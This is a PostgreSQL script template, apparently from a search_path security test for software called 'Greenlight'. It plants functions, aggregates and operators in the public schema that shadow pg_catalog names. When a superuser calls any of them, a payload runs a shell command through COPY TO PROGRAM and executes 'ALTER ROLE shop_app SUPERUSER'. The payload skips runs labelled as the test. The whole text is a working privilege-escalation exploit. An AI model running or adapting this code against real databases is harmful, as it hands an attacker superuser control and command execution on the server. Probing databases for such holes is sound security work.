-- What a role that may create objects can put in the way of names: a function, aggregate or operator of its own for every
-- name of pg_catalog that Greenlight's sources hold, once with the very types of the original, which is found where `public`
-- stands before `pg_catalog`, and once with types that fit better where the original takes others. Each says that it ran.
-- {names}: an array of words. Run as that role.

-- Or else what was planted would be found while the rest is.
SET search_path = pg_catalog;

CREATE FUNCTION public.planted(what text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $planted$
DECLARE
    super bool := (SELECT rolsuper FROM pg_roles WHERE rolname = current_user);
BEGIN
    -- The application's own, and the test's.
    IF NOT super OR current_setting('application_name') = 'the test' THEN
        RETURN;
    END IF;
    EXECUTE format('COPY (SELECT %L) TO PROGRAM %L',
        what || ' as ' || current_user || ' in ' || current_setting('application_name') || ' at ' || current_setting('port'), 'cat >>{marks}');
    IF NOT pg_is_in_recovery() AND current_setting('transaction_read_only') = 'off' THEN
        EXECUTE 'ALTER ROLE shop_app SUPERUSER';
    END IF;
END $planted$;

DO $do$
DECLARE
    -- What is tried in place of a type of the original.
    others constant jsonb := '{"text": ["name", "varchar", "\"char\""], "name": ["text", "varchar"], "regclass": ["oid", "text", "int4"],
        "oid": ["regclass", "int4", "int8"], "bigint": ["int4", "oid"], "integer": ["int8", "int2"], "numeric": ["int8", "float4"],
        "double precision": ["float4", "numeric"], "timestamp with time zone": ["timestamp", "date"], "boolean": ["text"],
        "anyelement": ["text", "name", "oid", "int4", "int2", "bool"], "anyarray": ["text[]", "name[]", "oid[]", "int2[]"],
        "anynonarray": ["text", "name", "oid", "int4", "int2", "float4"], "\"any\"": ["text", "name", "oid", "int4", "int2", "bool"],
        "anycompatible": ["text", "name"], "anycompatiblearray": ["text[]", "name[]"]}';
    names constant text[] := {names};
    f record; a text; n int; args text[]; tries text[]; made int := 0;
BEGIN
    FOR f IN
        SELECT p.proname, p.prokind, p.proretset, p.provariadic <> 0 AS variadic, format_type(p.prorettype, NULL) AS result,
            array(SELECT format_type(t, NULL) FROM unnest(p.proargtypes) WITH ORDINALITY AS u (t, no) ORDER BY no) AS args
        FROM pg_catalog.pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY (names) AND p.prokind IN ('f', 'a') AND p.pronargs <= 4
    LOOP
        tries := ARRAY[array_to_string(f.args, ', ')];
        FOR n IN 1..coalesce(array_length(f.args, 1), 0) LOOP
            FOR a IN SELECT jsonb_array_elements_text(others -> f.args[n]) LOOP
                args := f.args;
                args[n] := a;
                tries := tries || array_to_string(args, ', ');
            END LOOP;
        END LOOP;
        IF f.variadic THEN
            tries := ARRAY['text, text', 'text, name', 'text, name, name', 'text, text, text', 'text, name, name, name', 'text, oid', 'name, text'];
        END IF;
        FOREACH a IN ARRAY tries LOOP
            BEGIN
                IF f.prokind = 'a' THEN
                    EXECUTE format('CREATE FUNCTION public.planted_step(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                        concat_ws(', ', coalesce(nullif(f.result, 'anyarray'), 'text[]'), nullif(a, '')),
                        coalesce(nullif(f.result, 'anyarray'), 'text[]'),
                        format('BEGIN PERFORM public.planted(%L); RETURN $1; END', f.proname || '(' || a || ')'));
                END IF;
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
            BEGIN
                IF f.prokind = 'a' THEN
                    EXECUTE format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.planted_step, STYPE = %s)', f.proname, a,
                        coalesce(nullif(f.result, 'anyarray'), 'text[]'));
                ELSE
                    EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', f.proname, a,
                        CASE WHEN f.proretset THEN 'SETOF' ELSE '' END, f.result,
                        format('BEGIN PERFORM public.planted(%L); RETURN %s; END', f.proname || '(' || a || ')',
                            CASE WHEN f.proretset THEN '' ELSE 'NULL' END));
                END IF;
                made := made + 1;
            -- Types that cannot be had together.
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
        END LOOP;
    END LOOP;
    IF made < 300 THEN
        RAISE EXCEPTION 'only % functions were planted', made;
    END IF;
END $do$;

DO $do$
DECLARE
    kinds constant text[] := '{"name,text,varchar,\"char\"","oid,int2,int4,int8,regclass","bool","pg_lsn","timestamptz,interval","float8,numeric",
        "text[]","name[]","oid[]","int2[]","jsonb"}';
    kind text; l text; r text; o text; made int := 0;
BEGIN
    FOREACH kind IN ARRAY kinds LOOP
        FOREACH l IN ARRAY string_to_array(kind, ',') LOOP
            FOREACH r IN ARRAY string_to_array(kind, ',') LOOP
                EXECUTE format('CREATE FUNCTION public.planted_test(%s, %s) RETURNS bool LANGUAGE plpgsql AS %L', l, r,
                    format('BEGIN PERFORM public.planted(%L); RETURN true; END', l || ' operator ' || r));
                EXECUTE format('CREATE FUNCTION public.planted_sum(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', l, r, l,
                    format('BEGIN PERFORM public.planted(%L); RETURN $1; END', l || ' operator ' || r));
                FOREACH o IN ARRAY '{=,<>,<,>,<=,>=,~,!~,~~,!~~,~*,@>}'::text[] LOOP
                    EXECUTE format('CREATE OPERATOR public.%s (FUNCTION = public.planted_test, LEFTARG = %s, RIGHTARG = %s)', o, l, r);
                    made := made + 1;
                END LOOP;
                FOREACH o IN ARRAY '{||,+,-,*,/,&,>>,->,->>}'::text[] LOOP
                    EXECUTE format('CREATE OPERATOR public.%s (FUNCTION = public.planted_sum, LEFTARG = %s, RIGHTARG = %s)', o, l, r);
                    made := made + 1;
                END LOOP;
            END LOOP;
        END LOOP;
    END LOOP;
END $do$;

RESET search_path;
